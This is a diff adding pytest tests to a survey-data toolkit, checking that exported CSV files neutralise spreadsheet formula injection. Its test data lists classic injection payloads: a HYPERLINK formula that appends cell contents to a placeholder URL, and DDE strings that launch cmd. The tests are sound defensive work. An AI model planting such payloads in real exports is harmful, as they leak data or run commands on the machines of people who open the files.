@@ -269,3 +269,53 @@ def test_the_notebooks_committed_outputs_pass_and_keep_their_figures_and_styles(
     assert all(u.startswith("data:") for u in re.findall(r"url\(\s*['\"]?([^)'\"]*)", html))
     assert all(u.startswith("data:") for u in re.findall(r'<img[^>]*\ssrc="([^"]*)"', html))
     assert 'style="background:#fff8e6;padding:0.3em 0.5em;white-space:pre-wrap' in html  # warning boxes kept
+
+
+# --- issue 16 item 4: formula-safe CSV (the wjx .xlsx writer is tested in test_exports) -------------------
+FORMULAS = ['=HYPERLINK("http://x/?"&D3&D4,"点击查看详情")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "－1+1"]
+
+
+def _formula_cells(path, encoding="utf-8"):
+    """Cells of a CSV file (header included) a spreadsheet would evaluate as a formula."""
+    import csv
+
+    plain = re.compile(r"[+-]?[0-9]+(\.[0-9]*)?([eE][+-]?[0-9]+)?")
+    with open(path, newline="", encoding=encoding) as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    return [c for c in cells if c[:1] in "=+-@\t\r\n＝＋－＠" and c[:1] and not plain.fullmatch(c)]
+
+
+def test_formula_safe_prefixes_text_that_starts_a_formula():
+    from evalkit.datasets.simulate import formula_safe
+
+    frame = pd.DataFrame({"id": FORMULAS + ["-3", "+86", "-0.5", "安宁", "a=b", None],
+                          "n": range(len(FORMULAS) + 6), FORMULAS[0]: 1.5})
+    frame["cat"] = pd.Categorical(frame["id"].where(frame["id"].notna(), "x"))
+    out = formula_safe(frame)
+    k = len(FORMULAS)
+    assert out["id"].tolist()[:-1] == ["'" + f for f in FORMULAS] + ["-3", "+86", "-0.5", "安宁", "a=b"]
+    assert pd.isna(out["id"].iloc[-1])
+    assert out["cat"].tolist()[:k] == ["'" + f for f in FORMULAS]
+    assert list(out.columns) == ["id", "n", "'" + FORMULAS[0], "cat"]
+    assert out["n"].tolist() == list(range(k + 6)) and frame["id"].iloc[0] == FORMULAS[0]  # input unchanged
+
+
+def test_write_shipped_writes_no_live_formula(tmp_path, monkeypatch):
+    """The CSVs `evalkit simulate` writes (survey, truth, the GBK messy export) with registry names and
+    answers that are formulas: read back with the csv module, no cell starts a formula."""
+    from evalkit.datasets import simulate as sim
+
+    hostile = pd.DataFrame({"community_id": FORMULAS[:5], "wave": [2017] * 5, "who5_1": [1, 2, 3, 4, 5],
+                            "comment": FORMULAS[4:], "score": [-1.5, 2.0, -3.0, 0.0, 1.0]})
+    fake = type("Sim", (), {"survey": hostile, "truth": hostile.rename(columns={"comment": FORMULAS[0]})})()
+    monkeypatch.setattr(sim, "simulate", lambda seed, registry=None: fake)
+    monkeypatch.setattr(sim, "messy_export", lambda survey, registry, seed: survey)
+    monkeypatch.setattr(sim, "dongying", lambda: type("St", (), {"registry": None})())
+    sim.write_shipped(tmp_path)
+    for name, enc in (("survey.csv", "utf-8"), ("truth.csv", "utf-8"), ("raw/messy_export_gbk.csv", "gbk")):
+        raw = tmp_path / name
+        assert _formula_cells(raw, enc) == [], name
+        back = pd.read_csv(raw, encoding=enc)
+        assert back["community_id"].tolist() == ["'" + f for f in FORMULAS[:5]]  # text kept, prefixed
+        assert back["score"].tolist() == [-1.5, 2.0, -3.0, 0.0, 1.0]              # numbers untouched
